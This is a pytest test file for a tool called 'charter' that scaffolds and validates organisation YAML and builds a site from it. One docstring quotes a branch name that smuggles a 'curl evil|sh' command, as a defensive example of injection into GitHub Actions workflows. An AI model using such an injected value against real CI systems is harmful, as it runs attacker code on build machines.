"""charter new and charter init: drafts that validate (warnings only) and build."""

from __future__ import annotations

import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from charter.author.scaffold import workflow
from tests.conftest import ROOT, OrgDir, run_charter, run_json

RELEASE = "acme-tools/charter@v0.1.0"


@pytest.mark.parametrize(
    ("kind", "extra"),
    [("team", []), ("person", []), ("role", ["--team", "service"]), ("outcome", ["--accountable", "agent"])],
)
def test_new_files_validate_as_drafts(minimal: OrgDir, kind: str, extra: list[str]) -> None:
    done = run_charter("new", kind, "fresh-one", "--org", str(minimal.path), *extra)
    assert done.returncode == 0, done.stderr
    folder = {"team": "teams", "person": "people", "role": "roles", "outcome": "outcomes"}[kind]
    text = (minimal.path / folder / "fresh-one.yaml").read_text()
    assert text.startswith(f"# yaml-language-server: $schema=../.schema/{kind}.schema.json\n")
    code, report, _ = run_json("validate", str(minimal.path))
    assert code == 0
    assert report["summary"]["errors"] == 0
    # A draft is a warning (a TODO, a vacancy, an orphan: a new person holds no role yet), never an error.
    assert report["summary"]["warnings"] >= 1
    assert {p["code"] for p in report["problems"]} <= {"CH305", "CH308", "CH310"}
    if kind == "person":
        assert "add 'fresh-one' to the holders: of their role" in done.stdout


def test_new_outcome_follows_the_scheme(minimal: OrgDir) -> None:
    minimal.replace("organisation.yaml", "scheme: raci", "scheme: daci")
    text = (
        minimal.read("outcomes/fault-fixed.yaml")
        .replace("responsible:", "driver:")
        .replace("    accountable:", "    approver:")
    )
    minimal.write("outcomes/fault-fixed.yaml", text)
    assert run_charter("new", "outcome", "second", "--org", str(minimal.path), "--accountable", "agent").returncode == 0
    step = yaml.safe_load(minimal.read("outcomes/second.yaml"))["steps"][0]
    assert (step["driver"], step["approver"], step["contributors"]) == (["agent"], "agent", [])


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["role", "x", "--team", "servce"], "no team 'servce' in"),
        (["role", "x"], "say which team with --team"),
        (["person", "Bad_Id"], "'Bad_Id' must be lower-case letters"),
        (["person", "ana"], "a person 'ana' already exists"),
        (["outcome", "o", "--accountable", "nobody"], "no role 'nobody'"),
    ],
)
def test_new_refuses_with_a_reason(minimal: OrgDir, args: list[str], message: str) -> None:
    done = run_charter("new", *args, "--org", str(minimal.path))
    assert done.returncode == 2
    assert message in done.stderr
    assert "Traceback" not in done.stderr


def test_new_suggests_the_team(minimal: OrgDir) -> None:
    done = run_charter("new", "role", "x", "--team", "servce", "--org", str(minimal.path))
    assert "did you mean 'service'?" in done.stderr


def test_init_then_its_readme_commands_build_a_site(tmp_path: Path) -> None:
    repo = tmp_path / "acme"
    done = run_charter("init", str(repo), "--name", "Acme Parts", "--charter-from", RELEASE)
    assert done.returncode == 0, done.stderr
    readme = (repo / "README.md").read_text()
    commands = [
        line.split("#")[0].strip()
        for line in readme.split("## Commands")[1].split("```sh\n")[1].split("```")[0].splitlines()
        if line.startswith("charter ") and "serve" not in line
    ]
    assert commands == ["charter validate org", "charter build org --site-dir site"]
    charter = str(Path(sys.executable).parent / "charter")
    for command in commands:
        ran = subprocess.run(
            [charter, *shlex.split(command)[1:]], cwd=repo, capture_output=True, text=True, check=False
        )
        assert ran.returncode == 0, ran.stdout + ran.stderr
    assert (repo / "site" / "index.html").is_file()
    assert "Acme Parts" in (repo / "site" / "index.html").read_text()


def test_init_refuses_a_folder_with_files(tmp_path: Path) -> None:
    (tmp_path / "keep.txt").write_text("x")
    done = run_charter("init", str(tmp_path), "--charter-from", RELEASE)
    assert done.returncode == 2
    assert "is not empty" in done.stderr


def test_workflows_pass_the_github_schema(tmp_path: Path) -> None:
    assert run_charter("init", str(tmp_path / "acme"), "--charter-from", RELEASE).returncode == 0
    files = [ROOT / ".github/workflows/charter.yml", tmp_path / "acme/.github/workflows/charter.yml"]
    check = Path(sys.executable).parent / "check-jsonschema"
    done = subprocess.run(
        [str(check), "--builtin-schema", "vendor.github-workflows", *map(str, files)],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    broken = tmp_path / "broken.yml"
    broken.write_text(
        files[0].read_text().replace("runs-on: ubuntu-latest", "runs-on: [1, 2]", 1).replace("steps:", "stepz:", 1)
    )
    bad = subprocess.run(
        [str(check), "--builtin-schema", "vendor.github-workflows", str(broken)], capture_output=True, check=False
    )
    assert bad.returncode == 1


def test_this_repository_runs_the_workflow_charter_init_writes() -> None:
    """Here the Action is this repository itself (``uses: ./``): every pull request tests it."""
    assert (ROOT / ".github/workflows/charter.yml").read_text() == workflow("./")


def test_every_charter_command_in_the_workflow_runs(tmp_path: Path) -> None:
    """The workflow's own command lines, run against a copy of the repository's layout."""
    jobs = yaml.safe_load((ROOT / ".github/workflows/charter.yml").read_text())["jobs"]
    lines = {
        line.strip()
        for job in jobs.values()
        for step in job["steps"]
        for line in str(step.get("run", "")).splitlines()
        if line.strip().startswith("charter ")
    }
    assert len(lines) == 5
    work = tmp_path / "repo"
    shutil.copytree(ROOT / "org", work / "org")
    (work / ".github").mkdir()
    shutil.copy(ROOT / ".github" / "CODEOWNERS", work / ".github" / "CODEOWNERS")
    shutil.copy(ROOT / "mkdocs.yml", work / "mkdocs.yml")
    base = tmp_path / "base-org"
    shutil.copytree(ROOT / "org", base)
    charter = str(Path(sys.executable).parent / "charter")
    for line in sorted(lines):
        command = line.split(">>")[0].replace('"origin/$BASE"', str(base))
        done = subprocess.run(
            [charter, *shlex.split(command)[1:]], cwd=work, capture_output=True, text=True, check=False
        )
        assert done.returncode == 0, f"{command}: {done.stdout}{done.stderr}"


def test_pre_commit_hook_is_offered_and_used() -> None:
    offered = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text())
    used = yaml.safe_load((ROOT / ".pre-commit-config.yaml").read_text())["repos"][0]["hooks"]
    assert [h["id"] for h in offered] == [h["id"] for h in used] == ["charter-validate"]
    hook = offered[0]
    for key in ("entry", "args", "files", "pass_filenames", "language"):
        assert hook[key] == used[0][key], key
    charter = str(Path(sys.executable).parent / "charter")
    done = subprocess.run(
        [charter, *shlex.split(hook["entry"])[1:], *hook["args"]], cwd=ROOT, capture_output=True, check=False
    )
    assert done.returncode == 0


def test_new_repositories_get_this_repositorys_site_configuration() -> None:
    assert (ROOT / "templates/scaffold/mkdocs.yml").read_text() == (ROOT / "mkdocs.yml").read_text()


def test_no_workflow_puts_an_expression_into_a_shell_command() -> None:
    """A branch named ``x";curl evil|sh;"`` must stay a name: GitHub pastes ``${{ … }}`` into the
    script before the shell reads it, so every value a pull request controls reaches ``run:``
    through ``env:`` (issue 28, item 14)."""
    for path in (ROOT / "templates" / "scaffold" / "workflow.yml", ROOT / ".github" / "workflows" / "charter.yml"):
        jobs = yaml.safe_load(path.read_text().replace("@CHARTER@", "acme/charter@v1"))["jobs"]
        for job in jobs.values():
            for step in job["steps"]:
                assert "${{" not in str(step.get("run", "")), (path.name, step.get("name"))
